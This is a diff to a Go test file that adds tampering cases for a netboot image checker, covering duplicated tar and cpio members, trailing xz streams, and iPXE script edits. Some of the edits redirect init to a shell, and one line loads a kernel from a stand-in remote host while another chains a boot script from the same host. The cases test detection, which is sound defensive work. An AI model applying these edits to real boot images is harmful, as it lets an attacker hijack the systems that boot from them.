@@ -198,6 +198,9 @@ func TestDishonestImages(t *testing.T) {
 		return "rm second/nix-store.squashfs; mksquashfs " + contents + " second/nix-store.squashfs -no-hardlinks -keep-as-directory -all-root -comp zstd -b 131072 -quiet -no-progress -noappend >/dev/null\n" +
 			"(cd second && find . -mindepth 1 | cpio -o -H newc --quiet | zstd -q >../second.cpio); cat store/" + imagetest.InitrdP + "/initrd second.cpio >bundle/initrd; " + pack
 	}
+	twice := func(more string) string {
+		return "tar -C bundle --format=gnu -cf - initrd kernel netboot.ipxe -C .. " + more + " | gzip -n >release/" + imagetest.Bundle
+	}
 	cases := []struct {
 		name, script string
 		class        imagecheck.Class
@@ -216,6 +219,23 @@ func TestDishonestImages(t *testing.T) {
 		{"a squashfs that is cut short", "truncate -s -8000 second/nix-store.squashfs; (cd second && find . -mindepth 1 | cpio -o -H newc --quiet | zstd -q >../second.cpio); cat store/" + imagetest.InitrdP + "/initrd second.cpio >bundle/initrd; " + pack, imagecheck.Inconclusive, "inconclusive unreadable"},
 		{"no store", "cp store/" + imagetest.InitrdP + "/initrd bundle/initrd; " + pack, imagecheck.Inconclusive, "inconclusive not-checked: there is no store"},
 		{"no image", "echo x >release/" + imagetest.Bundle, imagecheck.Inconclusive, "inconclusive not-checked: it is no image"},
+		{"a kernel twice", "mkdir evil; echo evil >evil/x; " + twice("--transform=s,x,kernel, -C evil x"), imagecheck.Drift, "drift member-extra @kernel: it is there twice"},
+		{"a link over the kernel", "mkdir evil; echo evil >evil/x; ln -s x evil/kernel; " + twice("-C evil x kernel"), imagecheck.Drift, "drift member-extra @kernel: it is there twice"},
+		{"an initrd twice", "mkdir evil; cp bundle/initrd evil; " + twice("-C evil initrd"), imagecheck.Drift, "drift member-extra @initrd: it is there twice"},
+		{"a squashfs twice", "cat second.cpio >>bundle/initrd; " + pack, imagecheck.Drift, "drift member-extra @initrd › nix-store.squashfs: it is there twice"},
+		{"another superblock over the squashfs", "(mkdir third; cd third; head -c 95 ../second/nix-store.squashfs >nix-store.squashfs; echo nix-store.squashfs | cpio -o -H newc --quiet) >>bundle/initrd; " + pack, imagecheck.Drift, "drift member-extra @initrd › nix-store.squashfs: it is there twice"},
+		{"a directory for init", "mkdir second/init; " + squash("store/*"), imagecheck.Drift, "drift member-extra @initrd › init"},
+		{"the root made writable", "chmod 777 second; (cd second; find . | cpio -o -H newc -R +0:+0 --quiet >../second.cpio); cat store/" + imagetest.InitrdP + "/initrd second.cpio >bundle/initrd; " + pack, imagecheck.Drift, "drift member-extra @initrd › "},
+		{"a large script", "sed -i 's,init=[^ ]*,init=/evil,' bundle/netboot.ipxe; head -c 300000 /dev/zero | tr '\\0' '#' >>bundle/netboot.ipxe; " + pack, imagecheck.Inconclusive, "inconclusive not-checked @netboot.ipxe: a boot script of"},
+		{"another system in quotes", "sed -i 's,console=,init=\"/evil\" console=,' bundle/netboot.ipxe; " + pack, imagecheck.Drift, "drift boot @netboot.ipxe: it starts something"},
+		{"another system by way of the right one", "sed -i 's,/init ,/../../../tmp/init ,' bundle/netboot.ipxe; " + pack, imagecheck.Drift, "drift boot @netboot.ipxe: it starts something"},
+		{"another program of the system", "sed -i 's,/init ,/sw/bin/sh ,' bundle/netboot.ipxe; " + pack, imagecheck.Drift, "drift boot @netboot.ipxe: it starts something"},
+		{"a system in a comment", "sed -i 's,^kernel.*,# &\\nkernel kernel,' bundle/netboot.ipxe; " + pack, imagecheck.Drift, "drift boot @netboot.ipxe: it does not say"},
+		{"a program in the initrd", "sed -i 's,console=,rdinit=/bin/sh console=,' bundle/netboot.ipxe; " + pack, imagecheck.Drift, "drift boot @netboot.ipxe: it has the initrd start"},
+		{"another kernel is loaded", "sed -i 's,^kernel kernel,kernel http://192.0.2.1/kernel,' bundle/netboot.ipxe; " + pack, imagecheck.Drift, "drift boot @netboot.ipxe: its command kernel is not"},
+		{"another initrd is loaded", "sed -i 's,^initrd initrd,initrd ramdisk,' bundle/netboot.ipxe; " + pack, imagecheck.Drift, "drift boot @netboot.ipxe: its command initrd is not"},
+		{"another script is loaded", "sed -i 's,^boot,chain http://192.0.2.1/evil,' bundle/netboot.ipxe; " + pack, imagecheck.Drift, "drift boot @netboot.ipxe: it has the command"},
+		{"another script where that is not there", "sed -i 's,^initrd initrd,& || chain evil,' bundle/netboot.ipxe; " + pack, imagecheck.Drift, "drift boot @netboot.ipxe: it"},
 		{"a bomb", "truncate -s 200M bundle/bomb; tar -C bundle -cf - . | gzip -n >release/" + imagetest.Bundle, imagecheck.Inconclusive, "inconclusive unreadable: too large"},
 	}
 	for _, c := range cases {
@@ -228,6 +248,26 @@ func TestDishonestImages(t *testing.T) {
 			expect(t, check(t, r, opts, filepath.Join(b.Out, imagetest.Bundle)), c.class, c.want)
 		})
 	}
+}
+
+// TestBehindXz: a stream of xz ends where Linux has it end, and what follows is
+// no part of the system's initrd.
+func TestBehindXz(t *testing.T) {
+	imagetest.Need(t, "xz")
+	make := func(b *imagetest.Build, more string) {
+		initrd := "store/" + imagetest.InitrdP + "/initrd"
+		imagetest.Shell(t, b.Dir, "zstd -dc "+initrd+" | xz --check=crc32 >x; mv x "+initrd)
+		b.Images(t)
+		b.Manifest(t)
+		imagetest.Shell(t, b.Dir, "xz --check=crc32 <(zstd -dc second.cpio) -c >x; cat "+initrd+" x >bundle/initrd; "+more+
+			"tar -C bundle -cf - initrd kernel netboot.ipxe | gzip -n >release/"+imagetest.Bundle)
+	}
+	b, r := released(t, func(b *imagetest.Build) { make(b, "") })
+	expect(t, check(t, r, deep, filepath.Join(b.Out, imagetest.Bundle)), "")
+	b, r = released(t, func(b *imagetest.Build) {
+		make(b, "(mkdir third; cd third; echo evil >init; echo init | cpio -o -H newc --quiet | xz --check=crc32) >>bundle/initrd; ")
+	})
+	expect(t, check(t, r, deep, filepath.Join(b.Out, imagetest.Bundle)), imagecheck.Drift, "drift member-extra @initrd › init")
 }
 
 // TestNoListing: without one, the kernel is not said to be the right one.
